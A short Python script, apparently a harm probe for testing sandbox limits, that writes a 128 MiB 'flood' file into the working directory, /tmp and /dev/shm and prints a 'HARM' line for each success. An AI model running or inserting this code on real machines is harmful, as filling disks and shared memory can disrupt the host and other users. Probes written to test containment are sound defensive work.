"""Writes 128 MiB to every folder it can write to."""

from pathlib import Path

for folder in (".", "/tmp", "/dev/shm"):
    try:
        with Path(folder, "flood").open("wb") as file:
            for _ in range(16):
                file.write(b"x" * (8 << 20))
        print("HARM: wrote 128 MiB to", folder)
    except OSError:
        pass
